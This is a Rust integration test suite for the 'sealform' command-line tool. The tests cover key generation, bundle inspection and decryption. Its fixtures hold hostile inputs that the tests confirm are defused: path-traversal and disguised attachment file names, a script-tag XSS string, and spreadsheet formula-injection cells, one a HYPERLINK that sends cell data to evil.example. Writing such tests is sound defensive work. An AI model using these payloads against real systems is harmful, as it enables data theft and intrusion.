//! The `sealform` binary end to end: keygen, inspect and open, driven as a person or a script would, checking what
//! they see (messages, exit codes) and what lands on disk (files, modes, names).
//!
//! RSA key generation is slow in debug builds, so no test generates more than one (2048-bit) key.
//!
//! One file past 700 lines on purpose: each file under `tests/` is linked as a binary of its own, and this one
//! covers the offline commands that share the sample keys and bundles; the server-side commands are in `serve.rs`,
//! `pull.rs` and `scale_out.rs`, the keys' own in `keys.rs`.

mod util;

use std::fs;

use sealform_core::bundle::{ContentId, ReceiptId};
use sealform_core::key::{Identity, Recipient};
use sealform_core::schema::{Template, LEGAL_INTAKE_TEMPLATE};
use sealform_core::{Answer, Answers, Sha256Digest, Submission};
use serde_json::Value;
use util::*;

/// The receipt folder `open --out` makes for a bundle sealed by the helpers (submitted on 2026-11-22).
fn receipt_folder(bundle: &[u8]) -> String {
    format!("2026-11-22_{}", ReceiptId::of(bundle).short())
}

// ---------------------------------------------------------------------------------------------------------------
// Help
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn help_shows_examples_and_exit_codes() {
    let run = sealform(&["--help"]).expect_code(0);
    for part in ["keygen", "inspect", "open", "Examples:", "Exit codes:"] {
        assert!(run.stdout.contains(part), "{part:?}\n{}", run.stdout);
    }
    for command in ["keygen", "inspect", "open"] {
        let run = sealform(&[command, "--help"]).expect_code(0);
        assert!(run.stdout.contains("Examples:"), "{}", run.stdout);
        assert!(run.stdout.contains("Exit codes:"), "{}", run.stdout);
    }
    let open = sealform(&["open", "--help"]).stdout;
    assert!(open.contains("--passphrase-file"), "{open}");
    assert!(open.contains("--passphrase-env"), "{open}");
}

#[test]
fn usage_errors_exit_2() {
    sealform(&["open", "x.bundle"])
        .expect_code(2)
        .expect_stderr(&["--key"]);
    sealform(&["frobnicate"]).expect_code(2);
    // There is no way to give a passphrase itself on the command line.
    sealform(&["keygen", "--out", "k", "--passphrase", "secret"]).expect_code(2);
}

// ---------------------------------------------------------------------------------------------------------------
// keygen
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn keygen_demo_key_writes_a_0600_private_key_and_a_matching_jwk_that_round_trips() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("keys");
    let run = sealform(&[
        "keygen".as_ref(),
        "--out".as_ref(),
        out.as_os_str(),
        "--bits".as_ref(),
        "2048".as_ref(),
        "--name".as_ref(),
        "demo".as_ref(),
        "--unencrypted-demo-key".as_ref(),
    ])
    .expect_code(0)
    .expect_stderr(&["NOT encrypted"]);

    let private = out.join("demo.private.pem");
    assert_eq!(mode(&private), 0o600);
    let identity = Identity::from_pkcs8_pem(&fs::read_to_string(&private).expect("read"), None)
        .expect("an unencrypted PKCS#8 key");
    let jwk_text = fs::read_to_string(out.join("demo.public.jwk")).expect("read jwk");
    let jwk = Recipient::from_jwk(&jwk_text).expect("a JWK whose kid is its thumbprint");
    assert_eq!(jwk.kid(), identity.kid());
    let value: Value = serde_json::from_str(&jwk_text).expect("JSON");
    assert_eq!(value["kid"], identity.kid().as_str());
    let spki =
        Recipient::from_spki_pem(&fs::read_to_string(out.join("demo.public.pem")).expect("read"))
            .expect("SPKI PEM");
    assert_eq!(spki.kid(), identity.kid());

    // The kid, its short form, and the exact JWK to paste into the form config.
    assert!(
        run.stdout.contains(identity.kid().as_str()),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(identity.kid().short()),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("\"recipients\""), "{}", run.stdout);
    assert!(
        run.stdout.lines().any(|line| line == jwk_text.trim_end()),
        "{}",
        run.stdout
    );

    // The pin snippet, then a round trip: seal to the new public key, open with the new private key.
    let pin = format!(
        r#"<script src="https://forms.example/embed.js" data-sealform data-pin="{}"></script>"#,
        identity.kid().as_str()
    );
    assert!(run.stdout.lines().any(|line| line == pin), "{}", run.stdout);

    let bundle = dir.path().join("client.bundle");
    let photo: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
    let sealed = seal_sample(
        &bundle,
        &[jwk],
        "id-round-trip",
        &[
            ("lease.txt", b"The tenancy agreement"),
            ("photo.txt", &photo),
        ],
    );
    let opened = dir.path().join("opened");
    let run = open_into(&private, &opened, &bundle).expect_code(0);
    // The answers keep every rule of their form: nothing to warn about.
    assert!(!run.stderr.contains("warning"), "{}", run.stderr);

    let folder = opened.join(receipt_folder(&fs::read(&bundle).expect("read")));
    let submission: Submission =
        serde_json::from_str(&fs::read_to_string(folder.join("submission.json")).expect("read"))
            .expect("a submission document");
    assert_eq!(submission, sealed);
    assert_eq!(submission.answers, valid_answers());
    let consent: Value =
        serde_json::from_str(&fs::read_to_string(folder.join("consent.json")).expect("read"))
            .expect("JSON");
    assert_eq!(
        consent,
        serde_json::to_value(&sealed.consent).expect("consent as JSON")
    );
    let attachments = folder.join("attachments");
    assert_eq!(
        fs::read(attachments.join("lease.txt")).expect("read"),
        b"The tenancy agreement"
    );
    assert_eq!(
        fs::read(attachments.join("photo.txt")).expect("read"),
        photo
    );
    let summary = fs::read_to_string(folder.join("summary.md")).expect("read");
    assert!(
        summary.contains("**Answers checked again:** passed"),
        "{summary}"
    );
    // Ids, times and ordinary sentences read as they are: in code spans, or needing no escape at all.
    let receipt = ReceiptId::of(&fs::read(&bundle).expect("read"));
    assert!(
        summary.contains(&format!("- **Receipt:** `{}`\n", receipt.short())),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("- **Receipt id:** `{}`\n", receipt.full())),
        "{summary}"
    );
    assert!(
        summary.contains(&format!(
            "- **Submitted at (client's clock):** `{}`\n",
            sealed.submitted_at
        )),
        "{summary}"
    );
    assert!(summary.contains("Harbour & Vale"), "{summary}");
    assert!(summary.contains(CLIENT_NAME), "{summary}");
    assert!(
        !summary.contains('\\'),
        "a backslash in an ordinary summary:\n{summary}"
    );
}

#[test]
fn keygen_with_a_passphrase_file_writes_a_key_open_accepts() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("keys");
    let passphrase = dir.path().join("passphrase");
    fs::write(&passphrase, "correct horse battery staple\n").expect("write");
    set_mode(&passphrase, 0o600);
    sealform(&[
        "keygen".as_ref(),
        "--out".as_ref(),
        out.as_os_str(),
        "--bits".as_ref(),
        "2048".as_ref(),
        "--passphrase-file".as_ref(),
        passphrase.as_os_str(),
    ])
    .expect_code(0);
    let private = out.join("firm.private.pem");
    assert_eq!(mode(&private), 0o600);
    let pem = fs::read_to_string(&private).expect("read");
    assert!(
        pem.starts_with("-----BEGIN ENCRYPTED PRIVATE KEY-----"),
        "{pem}"
    );

    let recipient =
        Recipient::from_jwk(&fs::read_to_string(out.join("firm.public.jwk")).expect("read"))
            .expect("JWK");
    let bundle = dir.path().join("client.bundle");
    seal_sample(&bundle, &[recipient], "id-1", &[]);

    // The same passphrase file opens it; so does the same passphrase from the environment.
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        private.as_os_str(),
        "--passphrase-file".as_ref(),
        passphrase.as_os_str(),
        bundle.as_os_str(),
    ])
    .expect_code(0);
    let json: Value = serde_json::from_str(&run.stdout).expect("JSON on stdout");
    assert_eq!(json["answers"]["full_name"], CLIENT_NAME);
    sealform_with(
        &[
            "open".as_ref(),
            "--key".as_ref(),
            private.as_os_str(),
            "--passphrase-env".as_ref(),
            "SEALFORM_TEST_PASSPHRASE".as_ref(),
            bundle.as_os_str(),
        ],
        &[("SEALFORM_TEST_PASSPHRASE", "correct horse battery staple")],
        None,
    )
    .expect_code(0);

    // A wrong one is named as such, and nothing is opened.
    let wrong = dir.path().join("wrong");
    fs::write(&wrong, "incorrect horse\n").expect("write");
    set_mode(&wrong, 0o600);
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        private.as_os_str(),
        "--passphrase-file".as_ref(),
        wrong.as_os_str(),
        bundle.as_os_str(),
    ])
    .expect_code(2)
    .expect_stderr(&["wrong passphrase", &private.display().to_string()]);
    assert!(run.stdout.is_empty(), "{}", run.stdout);

    // No terminal and no passphrase source: say which flag to use.
    sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        private.as_os_str(),
        bundle.as_os_str(),
    ])
    .expect_code(2)
    .expect_stderr(&["encrypted", "--passphrase-file", "--passphrase-env"]);
}

#[test]
fn keygen_refuses_to_overwrite_without_force() {
    let dir = tempfile::tempdir().expect("temp dir");
    let private = dir.path().join("firm.private.pem");
    fs::write(&private, "the firm's only key").expect("write");
    let args = |force: bool| {
        let mut args = vec![
            "keygen".as_ref(),
            "--out".as_ref(),
            dir.path().as_os_str(),
            "--bits".as_ref(),
            "2048".as_ref(),
            "--unencrypted-demo-key".as_ref(),
        ];
        if force {
            args.push("--force".as_ref());
        }
        args
    };
    sealform(&args(false))
        .expect_code(2)
        .expect_stderr(&["already exists", "--force"]);
    assert_eq!(
        fs::read_to_string(&private).expect("read"),
        "the firm's only key"
    );
    assert_eq!(names_in(dir.path()), ["firm.private.pem"]);

    sealform(&args(true)).expect_code(0);
    let pem = fs::read_to_string(&private).expect("read");
    Identity::from_pkcs8_pem(&pem, None).expect("a new key replaced the old file");
    assert_eq!(mode(&private), 0o600);
    assert_eq!(
        names_in(dir.path()),
        ["firm.private.pem", "firm.public.jwk", "firm.public.pem"]
    );
}

#[test]
fn keygen_refuses_small_keys() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("keys");
    sealform(&[
        "keygen".as_ref(),
        "--out".as_ref(),
        out.as_os_str(),
        "--bits".as_ref(),
        "1024".as_ref(),
        "--unencrypted-demo-key".as_ref(),
    ])
    .expect_code(2)
    .expect_stderr(&["1024", "2048"]);
    assert!(!out.exists());
}

#[test]
fn keygen_without_a_terminal_says_which_flag_to_use() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("keys");
    sealform(&["keygen".as_ref(), "--out".as_ref(), out.as_os_str()])
        .expect_code(2)
        .expect_stderr(&[
            "no terminal",
            "--passphrase-file",
            "--passphrase-env",
            "--unencrypted-demo-key",
        ]);
    assert!(!out.exists());
}

#[test]
fn keygen_refuses_a_short_passphrase_before_making_a_key() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = dir.path().join("keys");
    let passphrase = dir.path().join("passphrase");
    // Eleven characters, 22 bytes: characters are counted, not bytes.
    fs::write(&passphrase, "ééééééééééé\n").expect("write");
    set_mode(&passphrase, 0o600);
    let keygen = |source: &[&std::ffi::OsStr], env: &[(&str, &str)]| {
        let mut args: Vec<&std::ffi::OsStr> =
            vec!["keygen".as_ref(), "--out".as_ref(), out.as_os_str()];
        args.extend_from_slice(source);
        sealform_with(&args, env, None)
    };
    keygen(&["--passphrase-file".as_ref(), passphrase.as_os_str()], &[])
        .expect_code(2)
        .expect_stderr(&["11 characters", "at least 12", "--passphrase-file"]);
    keygen(
        &[
            "--passphrase-env".as_ref(),
            "SEALFORM_TEST_PASSPHRASE".as_ref(),
        ],
        &[("SEALFORM_TEST_PASSPHRASE", "x")],
    )
    .expect_code(2)
    .expect_stderr(&["1 character", "at least 12", "SEALFORM_TEST_PASSPHRASE"]);
    assert!(!out.exists(), "nothing is written for a refused passphrase");
}

#[test]
fn keygen_refuses_names_that_are_paths() {
    let dir = tempfile::tempdir().expect("temp dir");
    for name in ["../firm", ".hidden", "a/b", ""] {
        sealform(&[
            "keygen".as_ref(),
            "--out".as_ref(),
            dir.path().as_os_str(),
            "--name".as_ref(),
            name.as_ref(),
            "--unencrypted-demo-key".as_ref(),
        ])
        .expect_code(2)
        .expect_stderr(&["--name"]);
    }
}

// ---------------------------------------------------------------------------------------------------------------
// inspect
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn inspect_shows_the_receipt_version_and_kids() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = vector_file(dir.path(), "valid");
    let (header, bytes) = vector("valid");
    let receipt = header_field(&header, "receipt");
    let run = sealform(&["inspect".as_ref(), file.as_os_str()]).expect_code(0);
    assert!(run.stdout.contains(&receipt), "{}", run.stdout);
    assert!(
        run.stdout.contains(&ReceiptId::of(&bytes).short()),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("version 1"), "{}", run.stdout);
    for key in ["firm", "backup"] {
        assert!(
            run.stdout.contains(identity(key).kid().as_str()),
            "{}",
            run.stdout
        );
    }
    assert!(run.stdout.contains("9,494 bytes"), "{}", run.stdout);
}

#[test]
fn inspect_names_a_file_that_is_not_a_bundle_and_goes_on() {
    let dir = tempfile::tempdir().expect("temp dir");
    let not_a_bundle = dir.path().join("notes.txt");
    fs::write(&not_a_bundle, "Dear Sir or Madam").expect("write");
    let valid = vector_file(dir.path(), "valid");
    let run = sealform(&[
        "inspect".as_ref(),
        not_a_bundle.as_os_str(),
        valid.as_os_str(),
    ])
    .expect_code(1)
    .expect_stderr(&[
        &not_a_bundle.display().to_string(),
        "not a well-formed sealform bundle",
    ]);
    let receipt = header_field(&vector("valid").0, "receipt");
    assert!(run.stdout.contains(&receipt), "{}", run.stdout);
}

// ---------------------------------------------------------------------------------------------------------------
// open
// ---------------------------------------------------------------------------------------------------------------

#[test]
fn open_prints_the_verified_submission() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let file = vector_file(dir.path(), "valid");
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        file.as_os_str(),
    ])
    .expect_code(0);
    let json: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
    assert_eq!(json["answers"]["full_name"], "Zoë Ñúñez-王 🙂 مرحبا");
    assert_eq!(json["answers"]["email"], "zoe@example.com");
    assert_eq!(json["attachments"][0]["name"], "tenancy.txt");
    let receipt = header_field(&vector("valid").0, "receipt");
    assert!(run.stderr.contains(&receipt), "{}", run.stderr);
    // The vector's answers are a sketch, not a complete intake: re-validation says so, and nothing is dropped.
    assert!(
        run.stderr.contains(" of their form:\n  - "),
        "{}",
        run.stderr
    );
}

#[test]
fn open_reads_standard_input() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "backup", 0o600);
    let run = sealform_with(
        &[
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            "-".as_ref(),
        ],
        &[],
        Some(&vector("valid").1),
    )
    .expect_code(0);
    let json: Value = serde_json::from_str(&run.stdout).expect("JSON");
    assert_eq!(json["answers"]["email"], "zoe@example.com");
    sealform(&["open", "--key", "k.pem", "-", "-"])
        .expect_code(2)
        .expect_stderr(&["more than once"]);
}

#[test]
fn open_with_the_wrong_key_names_both_kids() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "stranger", 0o600);
    let file = vector_file(dir.path(), "valid");
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        file.as_os_str(),
    ])
    .expect_code(1)
    .expect_stderr(&[
        &file.display().to_string(),
        identity("firm").kid().as_str(),
        identity("backup").kid().as_str(),
        identity("stranger").kid().as_str(),
        "you gave kid",
        "fingerprint",
    ]);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
}

#[test]
fn open_a_damaged_bundle_says_so() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    for vector in ["damaged-tag", "damaged-attachment", "attachments-swapped"] {
        let file = vector_file(dir.path(), vector);
        let run = sealform(&[
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            file.as_os_str(),
        ])
        .expect_code(1)
        .expect_stderr(&[
            &file.display().to_string(),
            "damaged or was tampered with",
            "send it again",
        ]);
        assert!(run.stdout.is_empty(), "{vector}: {}", run.stdout);
    }
}

#[test]
fn open_a_malformed_bundle_gives_the_json_path() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let file = vector_file(dir.path(), "alg-rsa1_5");
    let path = header_field(&vector("alg-rsa1_5").0, "path");
    sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        file.as_os_str(),
    ])
    .expect_code(1)
    .expect_stderr(&[&file.display().to_string(), &path]);
}

#[test]
fn a_batch_goes_on_past_a_damaged_bundle() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let first = vector_file(dir.path(), "valid");
    let damaged = vector_file(dir.path(), "damaged-ciphertext");
    let last = dir.path().join("another.bundle");
    seal_sample(&last, &[identity("firm").recipient().clone()], "id-2", &[]);
    let out = dir.path().join("opened");
    let args = |to_folder: bool| {
        let mut args = vec!["open".as_ref(), "--key".as_ref(), key.as_os_str()];
        if to_folder {
            args.extend(["--out".as_ref(), out.as_os_str()]);
        }
        args.extend([first.as_os_str(), damaged.as_os_str(), last.as_os_str()]);
        args
    };

    let run = sealform(&args(false)).expect_code(1).expect_stderr(&[
        &damaged.display().to_string(),
        "damaged or was tampered with",
    ]);
    assert_eq!(
        run.stdout.matches("\"submission_id\"").count(),
        2,
        "{}",
        run.stdout
    );

    sealform(&args(true)).expect_code(1);
    let receipts = [
        receipt_folder(&fs::read(&first).expect("read")),
        receipt_folder(&fs::read(&last).expect("read")),
    ];
    let mut expected = receipts.to_vec();
    expected.sort();
    assert_eq!(receipt_folders_in(&out), expected);
    for receipt in &receipts {
        let json = fs::read_to_string(out.join(receipt).join("submission.json")).expect("read");
        let json: Value = serde_json::from_str(&json).expect("JSON");
        assert_eq!(json["answers"]["full_name"], CLIENT_NAME);
    }
    assert_eq!(
        names_in(&out.join(&receipts[0]).join("attachments")),
        ["photo.jpg", "tenancy.txt"]
    );
    assert_eq!(
        names_in(&out.join(&receipts[1])),
        [
            "consent.json",
            "submission.json",
            "summary.html",
            "summary.md"
        ]
    );

    // Opening into the same folder again overwrites nothing and skips what is there.
    sealform(&args(true))
        .expect_code(1)
        .expect_stderr(&["already opened"]);
    assert_eq!(receipt_folders_in(&out), expected);
}

#[test]
fn attachment_names_are_made_safe() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let bundle = dir.path().join("tricky.bundle");
    let long = format!("{}.txt", "x".repeat(300));
    let attachments: [(&str, &[u8]); 14] = [
        ("../../etc/passwd", b"root:x:0:0"),
        ("..", b"dot dot"),
        (".bashrc", b"alias"),
        ("C:\\Users\\zoe\\lease.pdf", b"%PDF"),
        ("bell\u{7}\u{1b}[31m.txt", b"ding"),
        ("same.txt", b"first"),
        ("same.txt", b"second"),
        ("submission.json", b"{}"),
        ("/abs", b"absolute"),
        ("a/b", b"nested"),
        ("CON", b"device"),
        ("invoice\u{202E}txt.exe", b"disguised"),
        (&long, b"long"),
        ("nul\u{0}.txt", b"nul byte"),
    ];
    seal_sample(
        &bundle,
        &[identity("firm").recipient().clone()],
        "id-3",
        &attachments,
    );
    let out = dir.path().join("opened");
    let run = open_into(&key, &out, &bundle)
        .expect_code(0)
        .expect_stderr(&["saved as"]);
    let receipt = receipt_folder(&fs::read(&bundle).expect("read"));
    assert!(run.stdout.contains(&receipt), "{}", run.stdout);

    let folder = out.join(&receipt);
    assert_eq!(receipt_folders_in(&out), [receipt.as_str()]);
    assert_eq!(
        names_in(&folder),
        [
            "attachments",
            "consent.json",
            "submission.json",
            "summary.html",
            "summary.md"
        ]
    );
    let saved = folder.join("attachments");
    let shortened = format!("{}.txt", "x".repeat(196));
    let mut expected = vec![
        "_CON",
        "abs",
        "attachment-2",
        "b",
        "bashrc",
        "bell[31m.txt",
        "invoicetxt.exe",
        "lease.pdf",
        // The NUL byte is dropped, and what is left is a Windows device name.
        "_nul.txt",
        "passwd",
        "same-2.txt",
        "same.txt",
        "submission.json",
        shortened.as_str(),
    ];
    expected.sort_unstable();
    assert_eq!(names_in(&saved), expected);
    assert_eq!(fs::read(saved.join("passwd")).expect("read"), b"root:x:0:0");
    assert_eq!(
        fs::read(saved.join("attachment-2")).expect("read"),
        b"dot dot"
    );
    assert_eq!(fs::read(saved.join("same.txt")).expect("read"), b"first");
    assert_eq!(fs::read(saved.join("same-2.txt")).expect("read"), b"second");
    assert_eq!(fs::read(saved.join("_CON")).expect("read"), b"device");
    assert_eq!(fs::read(saved.join(&shortened)).expect("read"), b"long");
    assert_eq!(mode(&saved.join("passwd")), 0o600);
    assert_eq!(mode(&folder.join("submission.json")), 0o600);
    assert_eq!(mode(&folder.join("summary.html")), 0o600);
    assert_eq!(mode(&folder), 0o700);
    // Nothing escaped the output folder.
    assert_eq!(
        names_in(dir.path()),
        ["firm.pem", "opened", "tricky.bundle"]
    );
}

#[test]
fn open_warns_about_a_private_key_others_can_read() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o644);
    let file = vector_file(dir.path(), "valid");
    sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        file.as_os_str(),
    ])
    .expect_code(0)
    .expect_stderr(&["warning", &key.display().to_string(), "chmod 600"]);
}

#[test]
fn open_explains_a_public_key_given_as_the_key() {
    let dir = tempfile::tempdir().expect("temp dir");
    let public = dir.path().join("firm.public.pem");
    fs::write(
        &public,
        identity("firm").recipient().to_spki_pem().expect("PEM"),
    )
    .expect("write");
    let file = vector_file(dir.path(), "valid");
    sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        public.as_os_str(),
        file.as_os_str(),
    ])
    .expect_code(2)
    .expect_stderr(&["is a public key", "private key file"]);
}

/// A batch of good bundles with damaged ones among them, in a folder.
fn batch_folder(dir: &std::path::Path, count: usize) -> (std::path::PathBuf, Vec<String>) {
    let inbox = dir.join("inbox");
    fs::create_dir(&inbox).expect("mkdir");
    let firm = [identity("firm").recipient().clone()];
    let stranger = [identity("stranger").recipient().clone()];
    let mut bad = Vec::new();
    for i in 0..count {
        let path = inbox.join(format!("{i:03}.bundle"));
        let damage = i % 25;
        let recipients = if damage == 3 { &stranger } else { &firm };
        seal_sample(
            &path,
            recipients,
            &format!("id-{i}"),
            &[("note.txt", b"hello")],
        );
        let mut bytes = fs::read(&path).expect("read");
        match damage {
            1 => bytes.truncate(bytes.len() / 2),
            2 => {
                // A flipped bit in the middle of the sealed submission's ciphertext.
                let middle = bytes.len() / 3;
                bytes[middle] ^= 0x01;
            }
            _ => {}
        }
        fs::write(&path, &bytes).expect("write");
        if (1..=3).contains(&damage) {
            bad.push(path.display().to_string());
        }
    }
    (inbox, bad)
}

#[test]
fn a_batch_of_200_opens_the_good_names_the_bad_and_reruns_skip() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let (inbox, bad) = batch_folder(dir.path(), 200);
    let out = dir.path().join("opened");
    let export = dir.path().join("all.csv");
    let args = [
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
        "--export".as_ref(),
        export.as_os_str(),
        inbox.as_os_str(),
    ];
    let started = std::time::Instant::now();
    let run = sealform(&args).expect_code(1);
    let took = started.elapsed();
    assert_eq!(bad.len(), 24);
    for name in &bad {
        assert!(
            run.stderr.contains(name.as_str()),
            "{name} not named\n{}",
            run.stderr
        );
    }
    assert!(run.stderr.contains("you gave kid"), "{}", run.stderr);
    assert!(
        run.stderr.contains("damaged or was tampered with"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("24 of 200 bundles could not be opened"),
        "{}",
        run.stderr
    );
    assert_eq!(receipt_folders_in(&out).len(), 176);
    assert_eq!(run.stdout.lines().count(), 176, "{}", run.stdout);
    // Results are reported in input order, whichever core opened them.
    let opened: Vec<&str> = run.stdout.lines().collect();
    let mut sorted = opened.clone();
    sorted.sort_unstable();
    assert_eq!(opened, sorted);
    let table = fs::read_to_string(&export).expect("export");
    assert_eq!(table.lines().count(), 177, "a header and a row each");
    eprintln!("200 bundles opened in {took:?}");

    let again = sealform(&args).expect_code(1);
    assert_eq!(
        again.stderr.matches("Skipped").count(),
        176,
        "{}",
        again.stderr
    );
    assert!(again.stdout.is_empty(), "{}", again.stdout);
    assert_eq!(receipt_folders_in(&out).len(), 176);
    // One audit entry, for the run that saved; the rerun saved nothing and added none.
    let log = out.join("audit.log");
    let verified = sealform(&["audit".as_ref(), "verify".as_ref(), log.as_os_str()]).expect_code(0);
    assert!(verified.stdout.contains("1 entry"), "{verified:#?}");
}

#[test]
fn open_adds_nothing_to_a_broken_audit_log_but_still_saves() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let out = dir.path().join("opened");
    let open = |bundle: &std::path::Path| open_into(&key, &out, bundle);
    let firm = [identity("firm").recipient().clone()];
    let first = dir.path().join("first.bundle");
    seal_sample(&first, &firm, "first", &[]);
    open(&first).expect_code(0);
    let log = out.join("audit.log");
    let text = fs::read_to_string(&log).expect("log");
    fs::write(&log, text.replacen("\"open\"", "\"opened\"", 1)).expect("edit");

    let second = dir.path().join("second.bundle");
    seal_sample(&second, &firm, "second", &[]);
    open(&second).expect_code(1).expect_stderr(&[
        "audit log",
        "BROKEN at line 1 (entry 1)",
        "NOT added",
    ]);
    assert_eq!(receipt_folders_in(&out).len(), 2, "the submission is saved");
    sealform(&["audit".as_ref(), "verify".as_ref(), log.as_os_str()])
        .expect_code(1)
        .expect_stderr(&["entry 1", "edited"]);
}

#[test]
fn the_export_defuses_formulas() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let firm = [identity("firm").recipient().clone()];
    let cells = [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
        "\u{FF1D}1+1",
    ];
    let mut bundles = Vec::new();
    for (i, cell) in cells.iter().enumerate() {
        let mut answers = valid_answers();
        answers.insert("full_name", Answer::Text((*cell).to_owned()));
        answers.insert(
            "description",
            Answer::Text(format!("{cell} in a description")),
        );
        let path = dir.path().join(format!("{i}.bundle"));
        seal_answers(&path, &firm, &format!("id-{i}"), answers, &[]);
        bundles.push(path);
    }
    for (name, check) in [("all.csv", true), ("all.json", false)] {
        let export = dir.path().join(name);
        let mut args = vec![
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            "--export".as_ref(),
            export.as_os_str(),
        ];
        args.extend(bundles.iter().map(|path| path.as_os_str()));
        sealform(&args).expect_code(0);
        if check {
            let mut reader = csv::Reader::from_path(&export).expect("CSV");
            let headers = reader.headers().expect("headers").clone();
            let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
            let (full_name, description) = (column("full_name"), column("description"));
            let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
            for (row, cell) in rows.iter().zip(cells) {
                assert_eq!(&row[full_name], format!("'{cell}"));
                assert_eq!(&row[description], format!("'{cell} in a description"));
            }
            assert_eq!(rows.len(), cells.len());
        } else {
            // JSON is not opened by spreadsheets: the values stay exactly as the client wrote them.
            let json: Value =
                serde_json::from_str(&fs::read_to_string(&export).expect("read")).expect("JSON");
            assert_eq!(json[1]["full_name"], "+1");
        }
        assert_eq!(mode(&export), 0o600);
    }
}

#[test]
fn summaries_escape_what_the_client_wrote() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let mut answers = valid_answers();
    answers.insert("full_name", Answer::Text(SCRIPT.into()));
    answers.insert("description", Answer::Text(HOSTILE_DESCRIPTION.into()));
    answers.insert(HOSTILE_ID, Answer::Text(HOSTILE_ID.into()));
    let bundle = dir.path().join("client.bundle");
    seal_answers(
        &bundle,
        &[identity("firm").recipient().clone()],
        "id-xss",
        answers,
        &[(ATTACHMENT, b"x")],
    );
    let out = dir.path().join("opened");
    open_into(&key, &out, &bundle).expect_code(0);
    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
    let html = fs::read_to_string(folder.join("summary.html")).expect("read");
    assert!(
        html.contains("&lt;script&gt;alert('x')&lt;/script&gt;"),
        "{html}"
    );
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("<img"), "{html}");
    assert!(!html.contains("<b>"), "{html}");
    // Markdown: rendered as a viewer would, every value is exactly the text typed, and nothing became markup.
    let markdown = fs::read_to_string(folder.join("summary.md")).expect("read");
    let rendered = render_markdown(&markdown);
    assert_eq!(
        rendered.headings,
        [
            format!(
                "Submission {}",
                ReceiptId::of(&fs::read(&bundle).expect("read")).short()
            ),
            "Problems found when checking the answers again".to_owned(),
            "Answers".to_owned(),
            "Consent".to_owned(),
            "Attachments".to_owned(),
        ],
        "{markdown}"
    );
    assert!(
        rendered.markup.is_empty(),
        "{markdown}\nrendered as markup: {:#?}",
        rendered.markup
    );
    for value in [SCRIPT, HOSTILE_DESCRIPTION] {
        assert!(
            rendered
                .items
                .iter()
                .any(|item| item.ends_with(&format!(": {value}"))),
            "{value:?} is not shown as typed in {:#?}",
            rendered.items
        );
    }
    // A question the form does not have: labelled by its id, and named in a problem, both as typed.
    assert!(
        rendered
            .items
            .contains(&format!("{HOSTILE_ID}: {HOSTILE_ID}")),
        "{:#?}",
        rendered.items
    );
    assert!(
        rendered
            .items
            .iter()
            .any(|item| item.contains(HOSTILE_ID) && !item.ends_with(HOSTILE_ID)),
        "the problem naming {HOSTILE_ID:?} in {:#?}",
        rendered.items
    );
    assert!(
        rendered.items.iter().any(|item| item
            .strip_prefix(&format!("{ATTACHMENT} saved as attachments/"))
            .is_some_and(|rest| rest.ends_with(" (text/plain, 1 byte)"))),
        "{:#?}",
        rendered.items
    );
    // The form's own fact, and an ordinary sentence the firm wrote, as they are.
    for item in [
        "Form: legal-intake (version 2026-01)",
        "Submission id: id-xss",
    ] {
        assert!(
            rendered.items.iter().any(|shown| shown == item),
            "{item:?} in {:#?}",
            rendered.items
        );
    }
}

/// Markdown injection attempts, each to be shown as typed.
